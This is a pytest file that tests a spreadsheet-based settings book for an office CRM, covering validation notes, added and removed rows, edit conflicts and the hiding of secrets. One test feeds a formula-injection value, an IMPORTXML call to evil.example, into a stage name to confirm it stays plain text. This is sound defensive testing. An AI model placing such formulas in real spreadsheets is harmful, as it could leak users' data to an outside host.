"""The settings book: rows are shown from the office's settings, and edits become commands."""

from datetime import date, timedelta

import pytest
from tests.sync.books_office import Shelf

from kartoteka.domain.errors import ProviderDown
from kartoteka.domain.office import Account
from kartoteka.ports import Query, Tx
from kartoteka.services.office import read_settings
from sync.settings_book.pages import PAGES
from sync.shelf.settings import TABS

OLGA = "olga@office.example"
BOOK = "settings.director"


STAY = {"st_olga", "st_anna", "st_boris", "st_egor"}


@pytest.fixture
def shelf(shelf: Shelf) -> Shelf:
    """Few people, so that few books are made beside this one."""
    store = shelf.app.store

    def work(tx: Tx) -> None:
        people = {hit.id: hit.doc for hit in tx.query(Query("staff"))}
        for name in people.keys() - STAY:
            tx.put("staff", name, {**people[name], "active": False})

    store.run(work)
    shelf.app.desk.settings.forget()
    return shelf


def types(shelf: Shelf, page: str, place: tuple[str, str], value: object) -> None:
    """Olga types into a cell, the add-on tells, the books are flushed until all is said."""
    row, header = place
    shelf.there(BOOK, TABS[page]).type(row, header, value)
    shelf.tells(BOOK, OLGA, TABS[page], row, header=header)
    shelf.drain()
    shelf.drain()


def adds(shelf: Shelf, page: str, **cells: object) -> None:
    """Olga types a whole row under the others."""
    tab, there = TABS[page], shelf.there(BOOK, TABS[page])
    row: list[object] = [""] * len(tab.keys)
    for key, value in cells.items():
        row[tab.keys.index(key)] = value
    there.insert_row(len(there.rows()) + 1, row)
    looks(shelf, 4)


def looks(shelf: Shelf, count: int) -> None:
    for _ in range(count):
        shelf.clock.advance(timedelta(minutes=1))  # a look at all books takes much of a minute
        shelf.look()


def note(shelf: Shelf, page: str, row: str, header: str) -> str:
    return shelf.there(BOOK, TABS[page]).note(row, header)


def stage(shelf: Shelf, name: str):
    return read_settings(shelf.app.store).office.leads.stage(name)


def test_book_shows_the_settings_and_no_secret(shelf: Shelf) -> None:
    shelf.drain()

    rows = {code: shelf.there(BOOK, tab).rows() for code, tab in TABS.items()}
    office = read_settings(shelf.app.store).office

    assert len(rows["stages"]) == sum(len(line.stages) for line in office.pipelines)
    assert len(rows["staff"]) == len(rows["shifts"]) == len(STAY)
    assert len(rows["holidays"]) == len(office.work.country.off | office.work.country.worked)
    accounts = [Account.model_validate(it.doc) for it in shelf.app.store.query(Query("accounts"))]
    shown = repr(shelf.workbook(BOOK))
    assert len(rows["accounts"]) == len(accounts)
    for account in accounts:
        assert account.id not in shown
        assert not any(secret in shown for secret in account.secrets)


def test_only_who_sets_up_has_the_book(shelf: Shelf) -> None:
    shelf.drain()

    books = {key: shelf.workbook(key).shared for key in shelf.keys().values()}

    assert {key for key in books if key.startswith("settings")} == {BOOK}
    assert books[BOOK] == [OLGA]


def test_renamed_stage_is_renamed_by_the_person_everywhere(shelf: Shelf) -> None:
    lead = shelf.request()
    shelf.drain()
    first = stage(shelf, "new")

    types(shelf, "stages", ("stage:leads_law:new", "Название"), "Свежая")

    assert stage(shelf, "new").name == "Свежая"
    assert first.name != "Свежая"
    assert read_settings(shelf.app.store).office.updated_by == "st_olga"
    assert shelf.leads_of_team().shown(lead, "Стадия") == "Свежая"
    assert note(shelf, "stages", "stage:leads_law:new", "Название") == ""
    assert shelf.wrong_anywhere() == []


@pytest.mark.parametrize(
    ("page", "place", "value", "said"),
    [
        ("stages", ("stage:leads_law:new", "Цвет"), "сумрачный", "тёмно-зелёный"),
        ("stages", ("stage:leads_law:new", "Вероятность, %"), "много", "целое число"),
        ("stages", ("stage:leads_law:new", "Вероятность, %"), 140, "100"),
        ("stages", ("stage:leads_law:new", "Воронка"), "Продажи", "Картотека"),
        ("staff", ("staff:st_anna", "Роль"), "космонавт", "космонавт"),
        ("staff", ("staff:st_anna", "Почта"), "не адрес", "Не подходит; пример"),
        ("staff", ("staff:st_anna", "Берёт заявки"), "иногда", "да"),
        ("shifts", ("shift:st_anna", "Рабочие дни"), "пн, чтв", "пн, вт"),
        ("shifts", ("shift:st_anna", "Отсутствует"), "скоро", "31.12.2026"),
    ],
)
def test_wrong_value_is_put_back_and_the_note_says_why(
    shelf: Shelf, page: str, place: tuple[str, str], *, value: object, said: str
) -> None:
    row, header = place
    shelf.drain()
    there = shelf.there(BOOK, TABS[page])
    before, settings_before = there.shown(row, header), read_settings(shelf.app.store)

    types(shelf, page, (row, header), value)

    assert there.shown(row, header) == before
    assert said in note(shelf, page, row, header)
    assert read_settings(shelf.app.store) == settings_before


def test_note_goes_when_the_value_is_right(shelf: Shelf) -> None:
    shelf.drain()
    types(shelf, "stages", ("stage:leads_law:new", "Цвет"), "сумрачный")

    types(shelf, "stages", ("stage:leads_law:new", "Цвет"), "#00cc66")

    assert note(shelf, "stages", "stage:leads_law:new", "Цвет") == ""
    assert stage(shelf, "new").colour == "#00cc66"


def test_person_is_given_days_off_role_and_pair(shelf: Shelf) -> None:
    shelf.drain()

    types(shelf, "shifts", ("shift:st_anna", "Отсутствует"), "01.12.2026–03.12.2026, 2026-12-07")
    types(shelf, "shifts", ("shift:st_anna", "Рабочие дни"), "пн-ср, сб")
    types(shelf, "staff", ("staff:st_anna", "В паре с"), "Борис Ким")
    types(shelf, "staff", ("staff:st_anna", "Заявок за 30 дней"), 12)

    anna = read_settings(shelf.app.store).person("st_anna")
    assert anna is not None
    assert anna.absent == ("2026-12-01", "2026-12-02", "2026-12-03", "2026-12-07")
    assert anna.shift == (0, 1, 2, 5)
    assert (anna.pair, anna.quota) == ("st_boris", 12)
    shown = shelf.there(BOOK, TABS["shifts"]).shown("shift:st_anna", "Отсутствует")
    assert shown == "01.12.2026–03.12.2026, 07.12.2026"


def test_typed_rows_become_settings(shelf: Shelf) -> None:
    shelf.drain()

    adds(shelf, "stages", line="Заявки", name="Разбор", order=3, idle_days=4)
    adds(shelf, "holidays", day="30.12.2026")
    adds(shelf, "sources", name="Выставка")
    adds(shelf, "plans", month="2026-12", person="Анна Белова", sum=150000.5)
    adds(shelf, "staff", name="Жанна", email="Zhanna@office.example", role="менеджер")
    adds(shelf, "fields", entity="сделка", name="Бюджет", type="деньги", read_roles="менеджер")
    adds(shelf, "routing", name="Крупные", amount_from=500000, assign_to="Борис Ким")
    adds(shelf, "forms", name="Акция")

    now = read_settings(shelf.app.store)
    line = now.office.leads
    assert line.stages[2].name == "Разбор"
    assert line.stages[2].idle_days == 4
    assert date(2026, 12, 30) in now.office.work.holidays
    assert "Выставка" in now.office.sources
    plan = shelf.app.store.get("plans", "pl_2026-12_st_anna")
    assert plan is not None
    assert plan["amount_minor"] == 15_000_050
    assert now.by_email("zhanna@office.example") is not None
    assert [(it.name, it.type, it.read_roles) for it in now.office.fields][-1] == (
        "Бюджет", "money", ("manager",),
    )  # fmt: skip
    rule = now.office.routing[-1]
    assert (rule.name, rule.amount_from_minor, rule.assign_to) == (
        "Крупные", 50_000_000, ("st_boris",),
    )  # fmt: skip
    assert [form.title for form in now.forms].count("Акция") == 1
    assert shelf.wrong_anywhere() == []
    for tab in TABS.values():
        there = shelf.there(BOOK, tab)
        assert all(there.ids())
        assert len(set(there.ids())) == len(there.ids())


def test_typed_row_that_cannot_be_says_why_and_stays(shelf: Shelf) -> None:
    shelf.drain()
    before = read_settings(shelf.app.store)

    adds(shelf, "holidays", day="скоро")
    adds(shelf, "sources", name=before.office.sources[0])
    adds(shelf, "accounts", name="Новый")

    said = [list(shelf.there(BOOK, TABS[it]).row_notes.values())
            for it in ("holidays", "sources", "accounts")]  # fmt: skip
    assert "31.12.2026" in said[0][0]
    assert "уже есть" in said[1][0]
    assert said[2] != []
    assert read_settings(shelf.app.store) == before


def picks(shelf: Shelf, page: str, row: str, action: str) -> str:
    return shelf.picks(BOOK, OLGA, row, action, tab=TABS[page])


def test_stage_with_requests_asks_where_they_go(shelf: Shelf) -> None:
    lead = shelf.request()
    shelf.put_on_stage(lead, "c1")
    shelf.drain()

    asked = picks(shelf, "stages", "stage:leads_law:c1", "Убрать")

    assert "Допишите после двоеточия" in asked
    assert stage(shelf, "c1") is not None


def test_removed_rows_are_removed_by_their_commands(shelf: Shelf) -> None:
    shelf.do("field.add", OLGA, entity="deal", id="extra", name="Прочее")
    shelf.do("plan.set", OLGA, month="2026-12", amount_minor=100, staff="")
    shelf.do("stage.add", OLGA, pipeline="leads_law", stage="spare", name="Запас", after="new")
    lead = shelf.request()
    shelf.drain()
    there = stage(shelf, "new").name

    picks(shelf, "fields", "field:deal:extra", "Убрать")
    picks(shelf, "plans", "plan:pl_2026-12_office", "Убрать")
    picks(shelf, "staff", "staff:st_egor", "Убрать")
    picks(shelf, "stages", "stage:leads_law:spare", f"Убрать: {there}")
    shelf.drain()

    now = read_settings(shelf.app.store)
    assert now.office.fields == ()
    assert [it.id for it in now.office.leads.stages if it.id == "spare"] == []
    assert not now.person("st_egor").active
    assert shelf.there(BOOK, TABS["plans"]).ids() == []
    assert "staff:st_egor" not in shelf.there(BOOK, TABS["staff"]).ids()
    assert "shift:st_egor" not in shelf.there(BOOK, TABS["shifts"]).ids()
    assert shelf.lead(lead).stage == "new"
    assert shelf.wrong_anywhere() == []


def test_emptied_row_is_removed_or_comes_back_with_the_reason(shelf: Shelf) -> None:
    shelf.do("source.add", OLGA, name="Ошибка")
    shelf.drain()
    sources, stages = shelf.there(BOOK, TABS["sources"]), shelf.there(BOOK, TABS["stages"])
    mistake = next(row[0] for row in sources.rows() if row[1] == "Ошибка")
    sources.type(mistake, "Источник", "")
    for column in range(1, len(PAGES["stages"].columns) + 1):
        stages.tab.put(stages.row_of("stage:leads_law:new"), column, "")
    stages._changed()

    for _ in range(4):
        shelf.look()

    assert "Ошибка" not in read_settings(shelf.app.store).office.sources
    assert mistake not in sources.ids()
    assert stages.shown("stage:leads_law:new", "Название") == stage(shelf, "new").name
    assert "Допишите" in str(stages.shown("stage:leads_law:new", "Итог"))
    assert shelf.wrong_anywhere() == []


def test_deleted_row_is_brought_back_and_nothing_is_removed(shelf: Shelf) -> None:
    shelf.drain()
    there = shelf.there(BOOK, TABS["sources"])
    before, names = read_settings(shelf.app.store), sorted(there.ids())
    there.delete_rows(1, 2)

    shelf.look()

    assert sorted(there.ids()) == names
    assert any("Убрать" in said for said in there.row_notes.values())
    assert read_settings(shelf.app.store) == before


def test_two_who_change_one_setting_are_told_who_was_first(shelf: Shelf) -> None:
    shelf.drain()
    shelf.there(BOOK, TABS["stages"]).type("stage:leads_law:new", "Название", "Моё имя")
    shelf.tells(BOOK, OLGA, TABS["stages"], "stage:leads_law:new", header="Название")
    shelf.do("stage.rename", OLGA, pipeline="leads_law", stage="new", name="Чужое имя")

    shelf.drain()

    there = shelf.there(BOOK, TABS["stages"])
    assert there.shown("stage:leads_law:new", "Название") == "Чужое имя"
    assert "раньше вас изменил" in there.note("stage:leads_law:new", "Название")
    assert [doc["sheet_value"] for doc in shelf.conflicts()] == ["Моё имя"]


def test_several_cells_of_the_office_change_in_one_flush(shelf: Shelf) -> None:
    shelf.drain()
    there = shelf.there(BOOK, TABS["stages"])
    for row, header, value in (
        ("stage:leads_law:new", "Название", "Первая"),
        ("stage:leads_law:new", "№", 1),
        ("stage:leads_law:c1", "Название", "Вторая"),
        ("stage:leads_law:c1", "Остывает, раб. дней", 9),
    ):
        there.type(row, header, value)
        shelf.tells(BOOK, OLGA, TABS["stages"], row, header=header)

    shelf.drain()

    assert (stage(shelf, "new").name, stage(shelf, "c1").name) == ("Первая", "Вторая")
    assert stage(shelf, "c1").idle_days == 9
    assert there.row_notes == {}


def test_order_typed_in_a_row_reorders_the_pipeline(shelf: Shelf) -> None:
    shelf.drain()
    order = [it.id for it in read_settings(shelf.app.store).office.leads.stages]

    types(shelf, "stages", (f"stage:leads_law:{order[3]}", "№"), 2)

    now = [it.id for it in read_settings(shelf.app.store).office.leads.stages]
    assert now == [order[0], order[3], *order[1:3], *order[4:]]
    assert shelf.wrong_anywhere() == []


def test_hostile_text_stays_text(shelf: Shelf) -> None:
    shelf.drain()

    types(
        shelf, "stages", ("stage:leads_law:new", "Название"), '=IMPORTXML("https://evil.example")'
    )

    assert stage(shelf, "new").name == '=IMPORTXML("https://evil.example")'
    assert shelf.wrong_anywhere() == []


def test_day_of_the_country_is_marked_worked_and_taken_back_by_the_office(shelf: Shelf) -> None:
    shelf.drain()
    there = shelf.there(BOOK, TABS["holidays"])
    row = "holiday:2026-12-31"
    before = there.shown(row, "Какой это день"), there.shown(row, "Откуда")

    types(shelf, "holidays", (row, "Какой это день"), "рабочий")
    worked = there.shown(row, "Какой это день"), there.shown(row, "Откуда")
    types(shelf, "holidays", (row, "Какой это день"), "выходной")

    assert before == ("выходной", "из календаря страны")
    assert worked == ("рабочий", "решение офиса")
    assert (there.shown(row, "Какой это день"), there.shown(row, "Откуда")) == before


def test_steady_book_costs_no_write(shelf: Shelf) -> None:
    shelf.drain()
    shelf.look()

    assert "write" not in shelf.look()
    assert "structure" not in shelf.look()


def test_flush_that_died_behind_the_command_adds_nothing_twice(shelf: Shelf) -> None:
    shelf.drain()
    tab, there = TABS["holidays"], shelf.there(BOOK, TABS["holidays"])
    row: list[object] = [""] * len(tab.keys)
    row[tab.keys.index("day")] = "30.12.2026"
    there.insert_row(len(there.rows()) + 1, row)
    there._changed()

    def died(name: str) -> None:
        off = read_settings(shelf.app.store).office.work.holidays
        if name in {"write", "structure"} and date(2026, 12, 30) in off:
            shelf.sheets.between = lambda _name: None
            raise ProviderDown("the process is gone")

    shelf.sheets.between = died
    looks(shelf, 4)  # the other books went on, this one rests
    shelf.clock.advance(timedelta(minutes=1))
    looks(shelf, 3)

    assert there.ids().count("holiday:2026-12-30") == 1
    assert there.row_notes == {}
